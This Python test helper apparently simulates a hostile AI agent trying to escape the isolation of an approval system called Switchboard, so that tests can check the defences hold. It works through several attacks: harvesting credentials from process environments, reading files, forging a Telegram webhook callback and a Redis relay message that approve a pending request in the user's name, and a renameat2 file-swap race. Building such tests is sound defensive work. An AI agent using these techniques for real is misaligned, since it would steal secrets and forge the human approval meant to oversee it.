#!/usr/bin/env python3
"""What a hostile agent runs with its own shell tool (issue 21's attacks), stdlib only.

The scripted agent (tests/fakes/fake_agent.py, its `shell` step) runs `python3 attacker.py WHAT
OUT ...` from inside whatever isolation Switchboard gives it; each command writes what it found
or did as one JSON object to OUT (atomically, so a test reading OUT sees all of it or nothing)
and prints a one-line summary. Nothing here knows a secret: everything is searched for, as an
attacker would.

  environ OUT                  Switchboard's settings (SWITCHBOARD_*) in every environment it
                               can read: its own, its parent's ($AGENT_PPID) and each
                               /proc/<pid>/environ
  files OUT PATH...            each path read (the first 64 KiB) or, for a directory, listed
                               (and its own $HOME, to tell its own directories from others')
  forge-webhook OUT [SECONDS]  find the Telegram webhook (port, path, secret) and the state store
                               (SWITCHBOARD_STATE: a SQLite file, or Redis with its password) in
                               any readable environment, wait up to SECONDS for a pending
                               approval, and post a callback_query pressing its allow option
                               "from" the requester in the requester's chat
  relay OUT HOST PORT REPLICA [SECONDS]
                               on the Redis at HOST:PORT (with a password only if one can be
                               found), read a pending approval and RPUSH a forged choice pressing
                               its allow option onto `switchboard:relay:<REPLICA>`
  swap A B STOPFILE MAX        exchange the names A and B with renameat2(RENAME_EXCHANGE) until
                               STOPFILE exists or MAX swaps were made
"""

from __future__ import annotations

import ctypes
import glob
import json
import os
import socket
import sqlite3
import sys
import time
import urllib.parse
import urllib.request
from typing import Any

ALLOW = ("allow_once", "allow_always", "allow-once", "allow")
RENAME_EXCHANGE = 2
AT_FDCWD = -100
# What it looks for in an environment: Switchboard's settings (every credential it holds is one);
# nothing else of any process is kept.
LOOKED_FOR = "SWITCHBOARD_"


def write_out(path: str, data: dict[str, Any]) -> None:
    temp = f"{path}.{os.getpid()}.tmp"
    with open(temp, "w", encoding="utf-8") as out:
        json.dump(data, out)
    os.replace(temp, path)


def read_environ(path: str) -> dict[str, str] | None:
    try:
        with open(path, "rb") as source:
            raw = source.read()
    except OSError:
        return None
    found = {}
    for item in raw.split(b"\0"):
        name, sep, value = item.decode("utf-8", "replace").partition("=")
        if sep and name.startswith(LOOKED_FOR):
            found[name] = value
    return found


def every_environ() -> dict[str, dict[str, str]]:
    """Label -> environment, for every one this process can read."""
    own = {k: v for k, v in os.environ.items() if k.startswith(LOOKED_FOR)}
    seen: dict[str, dict[str, str]] = {"own": own}
    parent = os.environ.get("AGENT_PPID", str(os.getppid()))
    for label, path in [("parent", f"/proc/{parent}/environ")] + [
        (f"pid {p.split('/')[2]}", p) for p in glob.glob("/proc/[0-9]*/environ")
    ]:
        env = read_environ(path)
        if env:
            seen[label] = env
    return seen


def first_setting(name: str) -> str:
    for env in every_environ().values():
        if env.get(name):
            return env[name]
    return ""


def cmd_environ(out: str) -> None:
    seen = every_environ()
    write_out(out, {"environments": seen})
    print(f"read {len(seen)} environments")


def cmd_files(out: str, *paths: str) -> None:
    results: dict[str, Any] = {}
    for path in paths:
        try:
            if os.path.isdir(path):
                results[path] = {"listed": sorted(os.listdir(path))}
            else:
                with open(path, "rb") as source:
                    results[path] = {"read": source.read(65536).decode("utf-8", "replace")}
        except OSError as exc:
            results[path] = {"error": f"{type(exc).__name__}: {exc.strerror}"}
    write_out(out, {"files": results, "home": os.environ.get("HOME", "")})
    print(json.dumps({p: sorted(r) for p, r in results.items()}))


# ---- Redis, spoken directly (RESP) -----------------------------------------------------------
class Resp:
    def __init__(self, host: str, port: int, password: str = "") -> None:
        self.sock = socket.create_connection((host, port), timeout=5)
        self.file = self.sock.makefile("rb")
        if password:
            self.call("AUTH", password)

    def call(self, *args: str) -> Any:
        parts = [f"*{len(args)}\r\n".encode()]
        for arg in args:
            data = arg.encode()
            parts.append(b"$%d\r\n%s\r\n" % (len(data), data))
        self.sock.sendall(b"".join(parts))
        return self._read()

    def _read(self) -> Any:
        line = self.file.readline().rstrip(b"\r\n")
        kind, rest = line[:1], line[1:].decode()
        if kind == b"-":
            raise RuntimeError(rest)
        if kind in (b"+", b":"):
            return rest
        if kind == b"$":
            size = int(rest)
            return None if size < 0 else self.file.read(size + 2)[:-2].decode()
        if kind == b"*":
            return [self._read() for _ in range(max(int(rest), 0))]
        raise RuntimeError(f"unexpected reply {line[:80]!r}")


def redis_approvals(client: Resp) -> list[dict[str, Any]]:
    found = []
    for key in client.call("KEYS", "switchboard:approval:*") or []:
        raw = client.call("GET", key)
        if raw:
            found.append(json.loads(raw))
    return found


def sqlite_approvals(path: str) -> list[dict[str, Any]]:
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=2) as db:
        rows = db.execute("SELECT token, option_id, requester, chat FROM approvals").fetchall()
    return [
        {"token": t, "option_id": o, "requester": r, "key": ["telegram", c, ""]}
        for t, o, r, c in rows
    ]


def approvals_in(state: str) -> list[dict[str, Any]]:
    if state.startswith("redis"):
        url = urllib.parse.urlsplit(state)
        client = Resp(url.hostname or "127.0.0.1", url.port or 6379, url.password or "")
        return redis_approvals(client)
    return sqlite_approvals(state)


def wait_for_allow(find: Any, seconds: float) -> tuple[dict[str, Any] | None, str]:
    deadline = time.monotonic() + seconds
    last = "no pending approval seen"
    while time.monotonic() < deadline:
        try:
            for record in find():
                if record.get("option_id") in ALLOW:
                    return record, "found"
        except Exception as exc:  # the attacker keeps trying whatever fails
            last = f"{type(exc).__name__}: {exc}"
        time.sleep(0.2)
    return None, last


def cmd_forge_webhook(out: str, seconds: str = "20") -> None:
    report: dict[str, Any] = {"posted": False}
    hook = first_setting("SWITCHBOARD_TELEGRAM__WEBHOOK_URL")
    secret = first_setting("SWITCHBOARD_TELEGRAM__WEBHOOK_SECRET")
    port = first_setting("SWITCHBOARD_TELEGRAM__WEBHOOK_PORT")
    state = first_setting("SWITCHBOARD_STATE")
    report["found"] = {"hook": bool(hook), "secret": bool(secret), "state": bool(state)}
    if hook and secret and state:
        record, why = wait_for_allow(lambda: approvals_in(state), float(seconds))
        report["approval"] = why
        if record is not None:
            path = urllib.parse.urlsplit(hook).path or "/"
            requester = int(record["requester"])
            chat = {"id": int(record["key"][1]), "type": "private", "first_name": "x"}
            update = {
                "update_id": 990001,
                "callback_query": {
                    "id": "990001",
                    "from": {"id": requester, "is_bot": False, "first_name": "x"},
                    "chat_instance": str(chat["id"]),
                    "message": {"message_id": 1, "date": int(time.time()), "chat": chat},
                    "data": record["token"],
                },
            }
            request = urllib.request.Request(
                f"http://127.0.0.1:{port or urllib.parse.urlsplit(hook).port}{path}",
                data=json.dumps(update).encode(),
                headers={
                    "Content-Type": "application/json",
                    "X-Telegram-Bot-Api-Secret-Token": secret,
                },
            )
            with urllib.request.urlopen(request, timeout=10) as answer:
                report["posted"] = answer.status == 200
    write_out(out, report)
    print(json.dumps(report))


def cmd_relay(out: str, host: str, port: str, replica: str, seconds: str = "20") -> None:
    state = first_setting("SWITCHBOARD_STATE")
    password = urllib.parse.urlsplit(state).password or "" if state.startswith("redis") else ""
    report: dict[str, Any] = {"password_found": bool(password), "pushed": False}
    try:
        client = Resp(host, int(port), password)
        record, why = wait_for_allow(lambda: redis_approvals(client), float(seconds))
        report["approval"] = why
        if record is not None:
            forged = {
                "type": "choice",
                "token": record["token"],
                "key": record["key"],
                "user": [record["requester"], "x"],
                "event_id": "forged-relay-1",
                "hops": 1,
            }
            client.call("RPUSH", f"switchboard:relay:{replica}", json.dumps(forged))
            report["pushed"] = True
    except (OSError, RuntimeError) as exc:
        report["error"] = f"{type(exc).__name__}: {exc}"
    write_out(out, report)
    print(json.dumps(report))


def cmd_swap(a: str, b: str, stop: str, most: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    exchange = libc.renameat2
    swaps = 0
    while swaps < int(most) and not os.path.exists(stop):
        if exchange(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) != 0:
            raise OSError(ctypes.get_errno(), "renameat2")
        swaps += 1
    print(f"{swaps} swaps")


COMMANDS = {
    "environ": cmd_environ,
    "files": cmd_files,
    "forge-webhook": cmd_forge_webhook,
    "relay": cmd_relay,
    "swap": cmd_swap,
}

if __name__ == "__main__":
    COMMANDS[sys.argv[1]](*sys.argv[2:])
